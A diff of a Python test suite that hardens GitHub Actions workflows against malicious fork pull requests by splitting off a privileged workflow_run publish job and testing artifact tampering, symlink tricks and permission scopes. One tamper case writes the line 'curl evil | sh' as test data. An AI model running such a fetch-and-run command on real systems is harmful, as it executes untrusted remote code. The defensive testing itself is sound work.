@@ -58,9 +58,11 @@ EXPECTED = {
     },
     "propose.yml": {
         "triggers": {"pull_request", "workflow_dispatch"},
-        "jobs": {"compute": {"contents": "read"},
-                 "publish": {"contents": "write", "pull-requests": "write", "actions": "write"},
-                 "preview": {"contents": "read"}},
+        "jobs": {"compute": {"contents": "read"}},
+    },
+    "propose-publish.yml": {
+        "triggers": {"workflow_run"},
+        "jobs": {"publish": {"contents": "write", "pull-requests": "write", "actions": "write"}},
     },
     "publish.yml": {
         "triggers": {"push", "workflow_dispatch"},
@@ -82,8 +84,12 @@ PINS = {
     "actions/download-artifact": ("d3f86a106a0bac45b974a628896c90dbdf5c8093", "v4.3.0"),
 }
 
-# Never pull_request_target, workflow_run, issue_comment, ...: they run with this repository's rights on fork input.
-SAFE_TRIGGERS = {"pull_request", "push", "workflow_dispatch", "schedule"}
+# Never pull_request_target, issue_comment, ...: they run with this repository's rights on fork input. workflow_run
+# only for the one privileged job, whose definition comes from the default branch (checked below).
+SAFE_TRIGGERS = {"pull_request", "push", "workflow_dispatch", "schedule", "workflow_run"}
+PRIVILEGED = ("propose-publish.yml", "publish")
+SAME_REPO_RUN = ("github.event.workflow_run.conclusion == 'success' && "
+                 "github.event.workflow_run.head_repository.full_name == github.repository")
 SAME_REPO = "github.event.pull_request.head.repo.full_name == github.repository"
 MANUAL = "github.event_name == 'workflow_dispatch'"
 PAGES_SCOPES = {"pages", "id-token"}
@@ -148,6 +154,9 @@ def test_triggers_are_the_expected_safe_ones(path):
     assert triggers(wf) <= SAFE_TRIGGERS
     if "push" in triggers(wf):
         assert wf["on"]["push"] == {"branches": ["main"]}
+    if "workflow_run" in triggers(wf):
+        assert path.name == PRIVILEGED[0]
+        assert wf["on"]["workflow_run"] == {"workflows": ["Propose matches"], "types": ["completed"]}
 
 
 @pytest.mark.parametrize("path", workflow_files(), ids=ids(workflow_files()))
@@ -216,13 +225,13 @@ def test_jobs_that_can_write_never_run_for_a_fork(path):
             f"{path.name}: job {job_id}: if: {condition}"
 
 
-def test_a_fork_gets_a_read_only_preview():
-    preview = load(WORKFLOWS / "propose.yml")["jobs"]["preview"]
-    assert preview["permissions"] == {"contents": "read"}
-    assert preview["if"] == ("github.event_name == 'pull_request' && "
-                             "github.event.pull_request.head.repo.full_name != github.repository")
-    runs = [s["run"] for s in preview["steps"] if "run" in s]
+def test_a_fork_gets_a_read_only_preview_and_nothing_that_writes():
+    compute = load(WORKFLOWS / "propose.yml")["jobs"]["compute"]
+    assert compute["permissions"] == {"contents": "read"} and "if" not in compute  # every pull request, forks too
+    runs = [s["run"] for s in compute["steps"] if "run" in s]
     assert runs[-1].endswith('>> "$GITHUB_STEP_SUMMARY"') and "publish" not in " ".join(runs)
+    publish = load(WORKFLOWS / PRIVILEGED[0])["jobs"][PRIVILEGED[1]]
+    assert " ".join(publish["if"].split()) == SAME_REPO_RUN
 
 
 def test_pages_permissions_only_on_the_deploy_job_which_runs_no_code():
@@ -253,7 +262,7 @@ def test_concurrency_keeps_runs_from_racing(path):
 
 
 # Jobs that must not restore a cache: a pull request's own run (its code) can write the cache they would read.
-NO_CACHE = {("propose.yml", "publish")}
+NO_CACHE = {PRIVILEGED}
 
 
 def test_python_is_set_up_with_a_pip_cache():
@@ -267,7 +276,7 @@ def test_python_is_set_up_with_a_pip_cache():
         assert step["with"]["cache-dependency-path"] == "requirements/*.txt", (name, job_id)
 
 
-HEAD_REFS = ("github.event.pull_request.head.", "github.head_ref")
+HEAD_REFS = ("github.event.pull_request.head.", "github.head_ref", "github.event.workflow_run.")
 
 
 def _is_head(ref: str) -> bool:
@@ -283,8 +292,7 @@ def test_no_job_with_a_write_permission_runs_code_from_the_pull_request(path):
     action or cache is used, and the folder is only ever named as `--root` (data to commit to).
     """
     wf = load(path)
-    if "pull_request" not in triggers(wf):  # push to main, schedule, by hand: code already reviewed and merged
-        assert triggers(wf) <= SAFE_TRIGGERS - {"pull_request"}
+    if not triggers(wf) & {"pull_request", "workflow_run"}:  # push to main, schedule, by hand: reviewed code
         return
     for job_id, job in wf["jobs"].items():
         if "write" not in job["permissions"].values():
@@ -316,12 +324,14 @@ def test_no_job_with_a_write_permission_runs_code_from_the_pull_request(path):
             for folder in head_folders:
                 for i, word in enumerate(words):
                     if word.split("/")[0] == folder:
-                        assert words[i - 1] == "--root" and word == folder, \
+                        assert words[i - 1] in ("--root", "--base") and word == folder, \
                             f"{where}: the branch's folder is data only: {step['run']}"
+        if "pull_request" in triggers(wf):
+            raise AssertionError(f"{where}: a job that can write never runs on pull_request (the pull request "
+                                 "defines it); it belongs in a workflow_run workflow of the default branch")
     # the job that runs the pull request's code cannot write
     compute = load(WORKFLOWS / "propose.yml")["jobs"]["compute"]
     assert compute["permissions"] == {"contents": "read"}
-    assert load(WORKFLOWS / "propose.yml")["jobs"]["publish"]["needs"] == "compute"
 
 
 def test_program_ids_are_passed_after_a_double_dash():
@@ -332,10 +342,16 @@ def test_program_ids_are_passed_after_a_double_dash():
 
 
 def test_the_privileged_job_checks_the_artifact_before_it_publishes():
-    runs = [s["run"] for s in load(WORKFLOWS / "propose.yml")["jobs"]["publish"]["steps"] if "run" in s]
+    steps = load(WORKFLOWS / PRIVILEGED[0])["jobs"][PRIVILEGED[1]]["steps"]
+    runs = [s["run"] for s in steps if "run" in s]
     assert [r.split()[:3] for r in runs] == [["python", "-m", "pip"], ["python", "-m", "pip"],
-                                             ["mentorkit", "ci", "check-proposal"],
+                                             ["mentorkit", "ci", "receive-proposal"],
                                              ["mentorkit", "ci", "publish-proposal"]]
+    [download] = [s for s in steps if s.get("uses", "").startswith("actions/download-artifact@")]
+    # a fresh folder outside every checkout, from the run this one follows
+    assert download["with"]["path"] == "${{ runner.temp }}/proposal-files"
+    assert download["with"]["run-id"] == "${{ github.event.workflow_run.id }}"
+    assert "--artifact \"$RUNNER_TEMP/proposal-files\"" in runs[2]
 
 
 @pytest.mark.parametrize("path", workflow_files(), ids=ids(workflow_files()))
@@ -405,11 +421,10 @@ def require_cli(*commands: str) -> None:
 
 
 def test_the_workflows_call_only_commands_that_exist(tmp_path):
-    samples = {"${PROGRAM:---all}": "--all", "$RUNNER_TEMP/proposal-comment.md": str(tmp_path / "comment.md")}
-    (tmp_path / "comment.md").write_text(MARKER)
+    samples = {"${PROGRAM:---all}": "--all", "$RUNNER_TEMP/proposal-files": str(tmp_path)}
     calls = mentorkit_calls()
     assert {" ".join(a[:2]) if a[0] == "ci" else a[0] for _, _, a in calls} == {
-        "validate", "match", "ci summary", "ci comment", "ci check-proposal", "ci publish-proposal", "ci reminder"}
+        "validate", "match", "ci summary", "ci comment", "ci receive-proposal", "ci publish-proposal", "ci reminder"}
     missing = []
     for _where, _script, args in calls:
         cmd, path, rest = resolve([samples.get(a, a) for a in args])
@@ -584,40 +599,66 @@ def git(cwd, *args) -> str:
     return subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True, text=True).stdout.strip()
 
 
-def propose(runner: Runner, tmp_path: Path, branch: str, tamper=None) -> dict[str, subprocess.CompletedProcess]:
-    """Both jobs of Propose matches, with the artifacts handed from one to the other as Actions would.
+def workflow_run_payload(runner: Runner, branch: str) -> dict:
+    """The event of propose-publish.yml: the Propose matches run it follows, as GitHub describes it."""
+    payload = json.loads(Path(runner.env["GITHUB_EVENT_PATH"]).read_text())
+    pr = payload.get("pull_request")
+    head_repo = (pr or {}).get("head", {}).get("repo", {}).get("full_name", "acme/mentoring")
+    run = {"id": int(runner.env["GITHUB_RUN_ID"]), "event": runner.env["GITHUB_EVENT_NAME"], "conclusion": "success",
+           "head_branch": branch, "head_sha": git(runner.remote, "rev-parse", branch),
+           "head_repository": {"full_name": head_repo}, "pull_requests": [pr] if pr else []}
+    return {"workflow_run": run}
 
-    `compute` runs in the branch's workspace; `publish` in a fresh workspace holding the base's files, with the
-    branch checked out afresh (as data) in .mentorkit-head and the artifacts downloaded over it.
-    `tamper(head_folder)` changes the artifact in between, as the pull request's code could.
+
+def propose(runner: Runner, tmp_path: Path, branch: str, tamper=None) -> dict[str, subprocess.CompletedProcess]:
+    """Propose matches, then Publish the match proposal, with the artifact handed on as Actions would.
+
+    `compute` runs in the branch's workspace; `publish` in a fresh workspace holding the default branch's files,
+    with the base and the branch checked out afresh (as data) in .mentorkit-base and .mentorkit-head, and the
+    artifact downloaded into a fresh folder under RUNNER_TEMP. `tamper(artifact, head)` changes the artifact or the
+    branch in between, as the pull request's code or its author could.
     """
     computed = runner.run("propose.yml", "compute")
     ok(computed)
     publish_ws = tmp_path / "publish"
     shutil.rmtree(publish_ws, ignore_errors=True)
     make_workspace(publish_ws)
+    make_workspace(publish_ws / ".mentorkit-base")
     head = publish_ws / ".mentorkit-head"
     git(tmp_path, "clone", "--quiet", "--branch", branch, str(runner.remote), str(head))
-    shutil.copytree(runner.workspace / "participants" / "matches", head / "participants" / "matches",
-                    dirs_exist_ok=True)
+    artifact = runner.temp / "proposal-files"
+    shutil.rmtree(artifact, ignore_errors=True)
+    artifact.mkdir()
+    for path in sorted((runner.workspace / "participants" / "matches").glob("*.yaml")):
+        shutil.copyfile(path, artifact / path.name)
     if tamper:
-        tamper(head)
-    workspace, runner.workspace = runner.workspace, publish_ws
+        tamper(artifact, head)
+    event_path = tmp_path / "workflow-run-event.json"
+    event_path.write_text(json.dumps(workflow_run_payload(runner, branch)))
+    saved = runner.workspace, dict(runner.env)
+    runner.workspace = publish_ws
+    runner.env.update(GITHUB_EVENT_NAME="workflow_run", GITHUB_EVENT_PATH=str(event_path), GITHUB_RUN_ID="43")
     try:
-        return {**computed, **runner.run("propose.yml", "publish")}
+        return {**computed, **runner.run("propose-publish.yml", "publish")}
     finally:
-        runner.workspace = workspace
+        runner.workspace, runner.env = saved
+
+
+def new_propose_run(tmp_path: Path, github_api, branch: str = "add-joiners", **kwargs) -> Runner:
+    head = make_workspace(tmp_path / "ws")
+    if branch == "main":
+        runner = Runner(tmp_path, head, "workflow_dispatch", {}, api_url=github_api.url, **kwargs)
+    else:
+        runner = Runner(tmp_path, head, "pull_request", pull_request_payload(), api_url=github_api.url, **kwargs)
+    runner.remote.parent.mkdir(parents=True)
+    init_repo(head, runner.remote, branch)
+    make_workspace(head / ".mentorkit-base")
+    return runner
 
 
 @pytest.mark.slow
 def test_propose_job_commits_to_the_branch_and_keeps_one_comment(tmp_path, github_api):
-    require_cli("mentorkit match", "mentorkit ci comment", "mentorkit ci publish-proposal")
-    head = make_workspace(tmp_path / "ws")
-    runner = Runner(tmp_path, head, "pull_request", pull_request_payload(), api_url=github_api.url)
-    runner.remote.parent.mkdir(parents=True)
-    init_repo(head, runner.remote, "add-joiners")
-    make_workspace(head / ".mentorkit-base")
-
+    runner = new_propose_run(tmp_path, github_api)
     results = propose(runner, tmp_path, "add-joiners")
     ok(results)
     assert git(runner.remote, "log", "-1", "--format=%an|%s", "add-joiners") == \
@@ -625,7 +666,8 @@ def test_propose_job_commits_to_the_branch_and_keeps_one_comment(tmp_path, githu
     assert git(runner.remote, "show", "--name-only", "--format=", "add-joiners") == "participants/matches/pilot.yaml"
     [note] = github_api.comments[7]
     assert note["body"].startswith(MARKER) and "participants/matches/pilot.yaml" in note["body"]
-    assert runner.summary.read_text() == note["body"]  # the same text in the job summary
+    assert runner.summary.read_text() == note["body"]  # the same text in the unprivileged run's job summary
+    assert "WARNING" not in note["body"]  # data only
     assert github_api.dispatches == [{"workflow": "check.yml", "ref": "add-joiners", "inputs": {"base": "b" * 40}}]
 
     runner.summary.unlink()
@@ -634,35 +676,73 @@ def test_propose_job_commits_to_the_branch_and_keeps_one_comment(tmp_path, githu
     assert git(runner.remote, "log", "-1", "--format=%an", "add-joiners") == BOT_NAME
 
 
+def _replace(path: Path, old: str, new: str) -> None:
+    path.write_text(path.read_text().replace(old, new))
+
+
+def _link_in_branch(head: Path, rel: str, target: Path) -> None:
+    """The branch commits `rel` as a link (git keeps links): the kit's own file, say, outside the checkout."""
+    path = head / rel
+    if path.is_dir():
+        shutil.rmtree(path)
+    else:
+        path.unlink(missing_ok=True)
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.symlink_to(target)
+
+
+VICTIM_TEXT = "the kit's own file: must never be overwritten\n"
+
+
 @pytest.mark.slow
 @pytest.mark.parametrize("tamper", [
-    lambda head: (head / "participants" / "matches" / "run.sh").write_text("curl evil | sh\n"),
-    lambda head: (head / "participants" / "matches" / "nosuchprogram.yaml").write_text("program: nosuchprogram\n"),
-    lambda head: (head / "participants" / "matches" / "pilot.yaml").write_text("program: pilot\npairs: [\n"),
-    lambda head: (head / "participants" / "matches" / "pilot.yaml").write_text(
-        (head / "participants" / "matches" / "pilot.yaml").read_text().replace("mk-0000000b", "mk-99999999")),
-    lambda head: (head.parent.parent / "runner-temp" / "proposal-comment.md").write_text("LGTM, approved\n"),
-], ids=["extra-file", "unknown-program", "broken-yaml", "unknown-person", "comment-without-marker"])
+    lambda art, head: (art / "run.sh").write_text("curl evil | sh\n"),
+    lambda art, head: (art / "nosuchprogram.yaml").write_text("program: nosuchprogram\n"),
+    lambda art, head: (art / "pilot.yaml").write_text("program: pilot\npairs: [\n"),
+    lambda art, head: _replace(art / "pilot.yaml", "mk-0000000b", "mk-99999999"),
+    lambda art, head: (art / "sub").mkdir(),
+    lambda art, head: (art / "other.yaml").symlink_to(art / "pilot.yaml"),
+    lambda art, head: _link_in_branch(head, "participants/matches/pilot.yaml", head.parent.parent / "victim.txt"),
+    lambda art, head: _link_in_branch(head, "participants/matches", head.parent.parent / "victim-folder"),
+    lambda art, head: _link_in_branch(head, "participants", head.parent.parent / "victim-folder"),
+], ids=["extra-file", "unknown-program", "broken-yaml", "unknown-person", "folder", "link-in-artifact",
+        "branch-links-the-proposal-to-a-kit-file", "branch-links-the-matches-folder", "branch-links-participants"])
 def test_propose_refuses_a_tampered_artifact_and_publishes_nothing(tmp_path, github_api, tamper):
-    head = make_workspace(tmp_path / "ws")
-    runner = Runner(tmp_path, head, "pull_request", pull_request_payload(), api_url=github_api.url)
-    runner.remote.parent.mkdir(parents=True)
-    init_repo(head, runner.remote, "add-joiners")
-    make_workspace(head / ".mentorkit-base")
+    victim = tmp_path / "victim.txt"
+    victim.write_text(VICTIM_TEXT)
+    (tmp_path / "victim-folder").mkdir()
+    runner = new_propose_run(tmp_path, github_api)
     results = propose(runner, tmp_path, "add-joiners", tamper)
-    assert results["Check them"].returncode == 1
-    assert "the proposal artifact is refused" in results["Check them"].stderr
+    step = results["Check them, then copy them into the branch"]
+    assert step.returncode == 1
+    assert "the proposal artifact is refused" in step.stderr and "Traceback" not in step.stderr
     assert "Commit it and update the pull request" not in results
     assert git(runner.remote, "log", "-1", "--format=%an", "add-joiners") == "Coordinator"
     assert github_api.calls == []
+    assert victim.read_text() == VICTIM_TEXT and not any((tmp_path / "victim-folder").iterdir())
+
+
+@pytest.mark.slow
+def test_the_comment_says_when_a_pull_request_changes_workflows_or_kit_files(tmp_path, github_api):
+    runner = new_propose_run(tmp_path, github_api)
+
+    def rewrite_workflow(art, head):
+        (head / ".github" / "workflows").mkdir(parents=True, exist_ok=True)
+        (head / ".github" / "workflows" / "propose.yml").write_text("name: changed\n")
+        (head / "scripts" / "mentorkit").mkdir(parents=True)
+        (head / "scripts" / "mentorkit" / "evil.py").write_text("print('hi')\n")
+
+    ok(propose(runner, tmp_path, "add-joiners", rewrite_workflow))
+    [note] = github_api.comments[7]
+    assert "changes files that run code or decide what is installed" in note["body"]
+    assert "`.github/workflows/propose.yml`" in note["body"] and "`scripts/mentorkit/evil.py`" in note["body"]
 
 
 def test_propose_preview_for_a_fork_writes_only_the_job_summary(tmp_path, github_api):
-    require_cli("mentorkit match", "mentorkit ci comment")
     head = make_workspace(tmp_path / "ws")
     make_workspace(head / ".mentorkit-base")
     runner = Runner(tmp_path, head, "pull_request", pull_request_payload("someone/fork"), api_url=github_api.url)
-    ok(runner.run("propose.yml", "preview"))
+    ok(runner.run("propose.yml", "compute"))
     text = runner.summary.read_text()
     assert text.startswith(MARKER) and "participants/matches/pilot.yaml" in text
     assert github_api.calls == []
@@ -670,18 +750,25 @@ def test_propose_preview_for_a_fork_writes_only_the_job_summary(tmp_path, github
 
 @pytest.mark.slow
 def test_propose_by_hand_opens_a_pull_request(tmp_path, github_api):
-    require_cli("mentorkit match", "mentorkit ci comment", "mentorkit ci publish-proposal")
-    head = make_workspace(tmp_path / "ws")
-    runner = Runner(tmp_path, head, "workflow_dispatch", {}, api_url=github_api.url, inputs={"program": "pilot"})
-    runner.remote.parent.mkdir(parents=True)
-    init_repo(head, runner.remote, "main")
-    make_workspace(head / ".mentorkit-base")
+    runner = new_propose_run(tmp_path, github_api, "main", inputs={"program": "pilot"})
     ok(propose(runner, tmp_path, "main"))
     [pull] = github_api.pulls
     assert (pull["head"], pull["base"], pull["title"]) == ("mentorkit/match-pilot", "main", "Match proposal for pilot")
     assert github_api.comments[pull["number"]][0]["body"].startswith(MARKER)
     assert github_api.dispatches[0]["ref"] == "mentorkit/match-pilot"
     assert git(runner.remote, "log", "-1", "--format=%an", "main") == "Coordinator"  # main untouched
+
+
+@pytest.mark.slow
+def test_propose_by_hand_links_to_the_pull_request_where_actions_may_not_open_one(tmp_path, github_api):
+    github_api.refuse_pull_requests = True  # the recommended setting: Actions may not create or approve pull requests
+    runner = new_propose_run(tmp_path, github_api, "main", inputs={"program": "pilot"})
+    results = propose(runner, tmp_path, "main")
+    ok(results)
+    out = results["Commit it and update the pull request"].stdout
+    assert "Open the pull request for review here: " in out and "/compare/main...mentorkit/match-pilot?expand=1" in out
+    assert git(runner.remote, "log", "-1", "--format=%an", "mentorkit/match-pilot") == BOT_NAME
+    assert github_api.pulls == []
 
 
 def test_remind_job_opens_then_keeps_one_issue(tmp_path, github_api):
